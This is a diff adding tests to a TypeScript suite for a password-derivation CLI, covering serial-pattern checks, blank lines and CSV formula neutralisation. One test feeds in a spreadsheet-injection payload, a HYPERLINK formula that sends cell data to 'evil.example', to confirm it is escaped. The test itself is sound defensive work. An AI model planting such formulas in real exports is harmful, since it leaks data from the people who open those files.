@@ -154,6 +154,65 @@ describe('credline derive', () => {
     }
   });
 
+  it('applies the profile serial pattern as the station does: --serial refused, a file line skipped', () => {
+    // credline-agent's serial pattern is ^[A-Z0-9][A-Z0-9-]{3,31}$ (and it upper-cases serials): the station
+    // refuses a unit reporting "kl2301-100001" as serial-invalid, so derive gives it no password either.
+    const one = runCli(['derive', ...keyArgs, '--profile', 'credline-agent', '--serial', 'kl2301-100001']);
+    expect(one.status).toBe(2);
+    expect(one.stdout).toBe('');
+    expect(one.stderr).toBe(
+      'credline: serial "kl2301-100001" does not match the profile\'s /^[A-Z0-9][A-Z0-9-]{3,31}$/\n',
+    );
+    const input = join(work, 'pattern-serials.txt');
+    writeFileSync(input, 'KL2301-100001\nkl2301-100002\n KL2301-100003 \n');
+    const file = runCli(['derive', ...keyArgs, '--profile', 'credline-agent', '--serials-file', input]);
+    expect(file.status).toBe(1);
+    expect(file.stderr).toContain('pattern-serials.txt:2: serial "kl2301-100002" does not match the profile');
+    const rows = parse(file.stdout, { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row['serial'])).toEqual(['KL2301-100001', 'KL2301-100003']);
+  });
+
+  it('takes blank lines at the end of a serials file as no serial, not as errors', () => {
+    const input = join(work, 'trailing-blank.txt');
+    writeFileSync(input, 'KL2301-100001\r\nKL2301-100002\r\n\r\n  \n\n');
+    const r = runCli(['derive', ...keyArgs, '--profile-id', 'acme-cam', '--serials-file', input]);
+    expect(r.stderr).toBe('');
+    expect(r.status).toBe(0);
+    expect(parse(r.stdout, { columns: true })).toHaveLength(2);
+  });
+
+  it('neutralises a serial a spreadsheet would run as a formula, and writes the password exactly', () => {
+    const input = join(work, 'formula-serials.txt');
+    writeFileSync(input, '=HYPERLINK("http://evil.example/?"&A1,"x")\n@SUM(1)\n');
+    const r = runCli([
+      'derive',
+      ...keyArgs,
+      '--profile-id',
+      'acme-cam',
+      '--alphabet',
+      'printable94',
+      '--serials-file',
+      input,
+    ]);
+    expect(r.status).toBe(0);
+    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row['serial'])).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
+      "'@SUM(1)",
+    ]);
+    const again = runCli([
+      'derive',
+      ...keyArgs,
+      '--profile-id',
+      'acme-cam',
+      '--alphabet',
+      'printable94',
+      '--serial',
+      '@SUM(1)',
+    ]);
+    expect(rows[1]?.['password']).toBe(again.stdout.trimEnd());
+  });
+
   it('reads serials from stdin and quotes passwords that need it, verbatim', () => {
     const r = runCli(
       [
